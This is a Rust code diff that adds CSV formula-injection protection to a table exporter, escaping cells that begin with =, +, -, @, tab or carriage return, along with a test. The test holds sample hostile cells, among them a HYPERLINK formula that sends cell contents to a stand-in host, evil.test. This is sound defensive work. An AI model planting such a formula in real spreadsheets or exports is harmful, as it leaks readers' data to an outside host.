@@ -3,6 +3,8 @@
 
 mod pdf;
 
+use std::borrow::Cow;
+
 pub use pdf::page_count;
 
 impl Table {
@@ -35,12 +37,27 @@ pub fn render(table: &Table, format: Format) -> Result<Vec<u8>, String> {
 fn render_csv(table: &Table) -> Result<Vec<u8>, String> {
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer
-        .write_record(&table.columns)
+        .write_record(table.columns.iter().map(|c| inert_cell(c)))
         .map_err(|e| e.to_string())?;
     for row in &table.rows {
-        writer.write_record(row).map_err(|e| e.to_string())?;
+        writer
+            .write_record(row.iter().map(|c| inert_cell(c)))
+            .map_err(|e| e.to_string())?;
     }
     writer.into_inner().map_err(|e| e.to_string())
+}
+
+/// A cell a spreadsheet shows as text. Cells hold what users typed (names, titles, login
+/// names in the audit log); Excel, LibreOffice and Google Sheets evaluate a cell that starts
+/// with `=`, `+`, `-` or `@` (and, after trimming, a tab or carriage return) as a formula,
+/// which can fetch URLs or run commands on the reader's machine. A leading apostrophe makes
+/// them text (OWASP's CSV injection advice); other cells are left as they are.
+fn inert_cell(cell: &str) -> Cow<'_, [u8]> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        Cow::Owned(format!("'{cell}").into_bytes())
+    } else {
+        Cow::Borrowed(cell.as_bytes())
+    }
 }
 
 #[cfg(test)]
@@ -72,6 +89,39 @@ mod tests {
         let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
         assert_eq!(rows.len(), 3);
         assert_eq!(&rows[1][2], "row 1, with \"quotes\"");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let table = Table {
+            title: "t".into(),
+            subtitle: String::new(),
+            columns: vec!["=title".into(), "plain".into()],
+            rows: hostile
+                .iter()
+                .map(|h| vec![h.to_string(), "a = b, -1".into()])
+                .collect(),
+            thumbnails: Vec::new(),
+        };
+        let bytes = render(&table, Format::Csv).unwrap();
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        assert_eq!(&reader.headers().unwrap()[0], "'=title");
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        for (row, given) in rows.iter().zip(hostile) {
+            assert_eq!(&row[0], format!("'{given}"));
+            assert_eq!(
+                &row[1], "a = b, -1",
+                "cells that do not start a formula stay"
+            );
+        }
     }
 
     #[test]
